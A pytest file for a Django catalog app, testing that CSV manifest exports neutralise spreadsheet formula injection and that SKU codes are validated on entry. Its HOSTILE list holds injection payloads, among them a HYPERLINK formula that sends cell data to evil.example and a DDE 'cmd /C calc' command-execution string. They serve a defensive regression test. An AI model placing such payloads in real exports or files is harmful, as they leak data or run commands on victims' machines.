"""Issue 14.6: no manifest cell can run as a spreadsheet formula; SKU codes are validated on entry."""
import csv
import io
import zipfile

import pytest
from django.urls import reverse

from catalog.models import SKU
from studio.models import Role
from tests.factories import MembershipFactory, ProjectFactory, SKUFactory
from tests.generations.test_export import approved_output

pytestmark = pytest.mark.django_db
HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\t=1+1", "\r=1+1"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_project():
    manager = MembershipFactory(role=Role.MANAGER)
    project = ProjectFactory(program__team=manager.team)
    for i, text in enumerate(HOSTILE):
        # Codes entered before validation existed (or by the API): the export must be safe whatever is stored.
        output = approved_output(SKUFactory(project=project, code=text), manager=manager.user)
        output.task.prompt = HOSTILE[(i + 1) % len(HOSTILE)]
        output.task.save(update_fields=["prompt"])
    return project, manager


def _cells(text: str):
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_no_formula(text: str):
    cells = _cells(text)
    assert len(cells) > 20
    starting = [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert not starting, starting
    for hostile in HOSTILE:  # kept, readable, behind a quote
        assert "'" + hostile in cells


def test_the_manifest_download_escapes_formula_cells(client, hostile_project):
    project, manager = hostile_project
    client.force_login(manager.user)
    response = client.get(reverse("project_export_manifest", args=[project.pk]))
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    _assert_no_formula(body.decode())


def test_the_manifest_inside_the_zip_escapes_formula_cells(client, hostile_project):
    project, manager = hostile_project
    client.force_login(manager.user)
    response = client.get(reverse("project_export_zip", args=[project.pk]))
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    _assert_no_formula(archive.read("manifest.csv").decode())
    assert not [n for n in archive.namelist() if n.split("/")[-1].startswith(FORMULA_STARTS)]


@pytest.mark.parametrize("code", ["=1+1", "@cmd", "TEE 01", "tee/01", "x" * 65, "café", "-lead", ""])
def test_a_sku_code_outside_the_rule_is_refused_with_the_rule(client, code):
    creative = MembershipFactory(role=Role.CREATIVE)
    project = ProjectFactory(program__team=creative.team)
    client.force_login(creative.user)
    response = client.post(reverse("sku_create", args=[project.pk]), {"code": code, "name": "x",
                                                                      "garment_type": "Top"})
    assert not SKU.objects.filter(project=project).exists()
    assert response.status_code in (200, 400) and b"Letters, digits" in response.content


@pytest.mark.parametrize("code", ["TEE-01", "jeans_02.b", "A" * 64])
def test_a_sku_code_inside_the_rule_is_accepted(client, code):
    creative = MembershipFactory(role=Role.CREATIVE)
    project = ProjectFactory(program__team=creative.team)
    client.force_login(creative.user)
    client.post(reverse("sku_create", args=[project.pk]), {"code": code, "name": "x", "garment_type": "Top"})
    assert SKU.objects.filter(project=project, code=code).exists()


def test_the_form_says_the_rule(client):
    creative = MembershipFactory(role=Role.CREATIVE)
    project = ProjectFactory(program__team=creative.team)
    client.force_login(creative.user)
    page = client.get(reverse("project_detail", args=[project.pk])).content.decode()
    assert ("Letters, digits, dash (-), underscore (_) and dot (.) only, starting with a letter or digit; "
            "up to 64 characters.") in page


def test_a_zip_folder_that_is_not_a_valid_sku_code_is_rejected_in_the_report():
    from catalog.zip_ingest import ZipLimits, plan_archive
    from tests.factories import image_bytes

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("=HYPERLINK(1)/front.png", image_bytes())
        zf.writestr("TEE-01/front.png", image_bytes())
    with zipfile.ZipFile(buf) as zf:
        plan = plan_archive(zf, ZipLimits.from_settings())
    assert list(plan.by_sku) == ["TEE-01"]
    assert [o.outcome for o in plan.outcomes] == ["rejected"] and "Letters, digits" in plan.outcomes[0].reason
